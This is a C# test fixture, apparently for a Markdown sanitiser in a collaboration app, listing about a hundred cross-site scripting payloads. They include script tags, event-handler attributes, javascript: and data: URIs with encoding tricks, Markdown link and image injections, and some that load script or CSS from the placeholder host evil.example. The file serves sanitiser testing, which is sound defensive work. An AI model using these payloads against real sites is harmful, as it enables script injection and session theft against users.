namespace Collab.Formats.Tests.Markdown;

/// <summary>A hundred ways in which notes have been made to run something.</summary>
internal static class XssPayloads
{
    public static readonly string[] All =
    [
        "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=https://evil.example/x.js></script>", "<script\n>alert(1)</script\n>", "<script/x>alert(1)</script>",
        "<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)//", "<IMG SRC=\"javascript:alert(1)\">", "<img/src/onerror=alert(1)>", "<img src=`x`onerror=alert(1)>",
        "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>", "<svg><animate onbegin=alert(1) attributeName=x>",
        "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>", "<applet code=x>",
        "<body onload=alert(1)>", "<html onmouseover=alert(1)>", "<base href=https://evil.example/>", "<meta http-equiv=refresh content=0;url=javascript:alert(1)>", "<link rel=stylesheet href=https://evil.example/x.css>",
        "<style>@import 'https://evil.example/x.css';</style>", "<style>*{background:url(https://evil.example/)}</style>", "<div style=position:fixed;inset:0>x</div>", "<div style=\"background:url(javascript:alert(1))\">x</div>", "<p style=animation-name:x onanimationstart=alert(1)>x</p>",
        "<a href=javascript:alert(1)>x</a>", "<a href=\" javascript:alert(1)\">x</a>", "<a href=\"java\tscript:alert(1)\">x</a>", "<a href=\"&#106;avascript:alert(1)\">x</a>", "<a href=data:text/html,<script>alert(1)</script>>x</a>",
        "<form action=javascript:alert(1)><button>x</button></form>", "<button formaction=javascript:alert(1)>x</button>", "<input autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>",
        "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>", "<details open ontoggle=alert(1)>", "<marquee onstart=alert(1)>", "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<template><script>alert(1)</script></template>", "<xmp><img src=x onerror=alert(1)></xmp>", "<plaintext><img src=x onerror=alert(1)>",
        "<!--><img src=x onerror=alert(1)>-->", "<!-- --!><img src=x onerror=alert(1)>", "<![CDATA[<img src=x onerror=alert(1)>]]>", "<?xml version=\"1.0\"?><img src=x onerror=alert(1)>", "</title><script>alert(1)</script>",
        "</textarea><script>alert(1)</script>", "</style><script>alert(1)</script>", "\"><script>alert(1)</script>", "'><img src=x onerror=alert(1)>", "\" onmouseover=\"alert(1)",
        "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](javascript&colon;alert(1))", "[x](java&#115;cript:alert(1))", "[x](java&Tab;script:alert(1))",
        "[x](&#x6A;avascript:alert(1))", "[x](javascript&#58;alert(1))", "[x](<javascript:alert(1)>)", "[x](\u0001javascript:alert(1))", "[x](%6Aavascript:alert(1))",
        "[x](vbscript:msgbox)", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "[x](data:image/svg+xml,<svg onload=alert(1)>)", "[x](file:///etc/passwd)", "[x](//evil.example)",
        "[x](/api/me)", "[x](https://evil.example \"\" onclick=alert(1))", "[x](https://evil.example 'title\" onmouseover=alert(1)')", "[x](blob:https://room.example/1)", "[x](filesystem:https://room.example/1)",
        "![x](javascript:alert(1))", "![x](data:text/html,<script>alert(1)</script>)", "![x\" onerror=\"alert(1)](https://evil.example/x.png)", "![x](https://evil.example/x.png\"onerror=\"alert(1))", "[![x](javascript:alert(1))](javascript:alert(2))",
        "<javascript:alert(1)>", "<data:text/html,x>", "<vbscript:x>", "[x]: javascript:alert(1)\n\n[x]", "[x]: <javascript:alert(1)> \"t\"\n\n![x][x]",
        "# <img src=x onerror=alert(1)>", "> <script>alert(1)</script>", "- <svg/onload=alert(1)>", "```<script>\nalert(1)\n```", "``` \"><script>alert(1)</script>\nx\n```",
        "`<script>alert(1)</script>`", "**<img src=x onerror=alert(1)>**", "&lt;script&gt;alert(1)&lt;/script&gt;", "[<img src=x onerror=alert(1)>](https://ok.example)", "http://evil.example/\"onmouseover=\"alert(1)",
    ];
}
